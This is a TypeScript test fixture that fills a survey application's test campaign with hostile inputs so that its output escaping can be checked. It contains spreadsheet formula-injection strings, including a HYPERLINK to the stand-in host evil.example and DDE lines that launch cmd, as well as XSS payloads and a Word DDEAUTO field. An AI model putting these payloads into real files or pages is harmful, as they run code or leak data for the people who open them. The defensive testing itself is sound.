import { eq } from 'drizzle-orm'
import { v7 as uuid } from 'uuid'
import { campaign, occasion, opinion, org, upload, uploadRejection } from '../../../server/db/tables.ts'
import { analyseRunJob, startRun } from '../../../server/issue/service.ts'
import { writeReportJob } from '../../../server/report/service.ts'
import type { TestActor, TestCampaign, TestServer } from '../harness.ts'
import { addDemoOpinions } from '../issue/demo.ts'

/** What a spreadsheet would compute. */
const FORMULAS = ['=HYPERLINK("http://evil.example/"&A1,"看")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)']
/** What a page would run: each sets a mark or opens a dialog. */
const SCRIPTS = ['<script>window.ran=1</script>', '<img src=x onerror="window.ran=1;alert(1)">', '"><svg onload=alert(1)>', '</textarea></title></style><script>alert(1)</script>', '\'-alert(1)-\'', '{{constructor.constructor(\'alert(1)\')()}}', 'javascript:alert(1)', '<a href="javascript:alert(1)">点</a>', ']]></w:t><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>', '\u202e反过来的字']
const HOSTILE: readonly string[] = [...FORMULAS, ...SCRIPTS]
const NEVER = new AbortController().signal

export interface HostileWorld {
  readonly campaign: TestCampaign
  readonly bureau: TestActor
  readonly administrator: TestActor
  readonly ids: Readonly<Record<string, string>>
}

/** A campaign in which everything that can be named or written is an attack: names, places, files, opinions, titles of issues and reports. */
export async function newHostileWorld(server: TestServer): Promise<HostileWorld> {
  const { context } = server
  const { db } = context
  const made = await server.newCampaign({ name: `活动${SCRIPTS[1]}` })
  const bureau = await server.newActor('bureau', made.bureauId)
  const administrator = await server.newActor('administrator', made.bureauId)
  const orgIds = [...made.schoolIds, ...made.groupIds, made.bureauId]
  for (const [at, orgId] of orgIds.entries()) await db.update(org).set({ name: `${HOSTILE[at]!}${at}` }).where(eq(org.id, orgId))
  await db.update(org).set({ name: `${SCRIPTS[1]}校` }).where(eq(org.id, made.schoolIds[3]))
  await addDemoOpinions(context, made, bureau.id, 0, 160)
  const occasionId = uuid()
  const uploadId = uuid()
  const orgId = made.schoolIds[0]
  await db.insert(occasion).values({ campaignId: made.id, id: occasionId, orgId, heldAt: new Date('2026-03-10T07:00:00Z'), place: SCRIPTS[1], channel: '家长会', audience: '家长', recordedBy: bureau.id })
  await db.insert(upload).values({ campaignId: made.id, id: uploadId, orgId, fileName: `${SCRIPTS[1]}.csv`, byteCount: 1, sha256: '0', status: 'done', sentBy: bureau.id })
  await db.insert(uploadRejection).values(HOSTILE.map((text, number) => ({ campaignId: made.id, uploadId, number, row: number + 2, column: text, reason: '这一行不能用', cells: [['意见', text], [text, text]] })))
  await db.insert(opinion).values(
    HOSTILE.flatMap((text, at) =>
      [0, 1].map((copy) => ({
        campaignId: made.id, id: uuid(), orgId: made.schoolIds[(at + copy) % 4]!, text: `${text} 食堂排队时间太长，孩子吃不上热饭`, channel: '家长会', audience: '家长', occasionId: copy === 0 ? occasionId : null, uploadId: copy === 1 ? uploadId : null,
        sourceFile: copy === 1 ? `${text}.csv` : null, sourceRow: copy === 1 ? at + 2 : null, sourceCells: copy === 1 ? [[text, text]] : null, rowKey: `hostile-${at}-${copy}`, createdBy: bureau.id,
      })),
    ),
  )
  const runId = (await startRun(context, bureau, made.id, { orgId: made.bureauId }, null)).id
  await analyseRunJob(context, { campaignId: made.id, runId }, NEVER)
  const ask = await server.signedIn(bureau)
  const issues = (await ask({ method: 'GET', url: `/api/campaigns/${made.id}/runs/${runId}/issues?limit=30` })).json<{ items: { id: string }[] }>().items
  for (const [at, { id }] of issues.slice(0, HOSTILE.length).entries()) {
    const payload = { runId, action: 'rename', issueIds: [id], title: HOSTILE[at]!.replaceAll(/[\t\r]/g, ' ').trim().slice(0, 40), reason: HOSTILE[at] }
    const answer = await ask({ method: 'POST', url: `/api/campaigns/${made.id}/reviews`, payload })
    if (answer.statusCode !== 201) throw new Error(`${answer.statusCode}: ${answer.body}`)
  }
  const reportId = (await ask({ method: 'POST', url: `/api/campaigns/${made.id}/reports`, payload: { runId, title: `=1+1${SCRIPTS[1]}` } })).json<{ id: string }>().id
  await writeReportJob(context, { campaignId: made.id, reportId }, NEVER)
  const [first] = await db.select().from(opinion).where(eq(opinion.rowKey, 'hostile-11-1'))
  await db.update(campaign).set({ stages: [{ name: SCRIPTS[1], startsOn: '2026-03-02', endsOn: '2026-04-01', task: SCRIPTS[0] }] }).where(eq(campaign.id, made.id))
  return { campaign: made, bureau, administrator, ids: { campaignId: made.id, orgId: made.bureauId, occasionId, uploadId, opinionId: first!.id, runId, issueId: issues[0]!.id, reportId, actorId: bureau.id } }
}
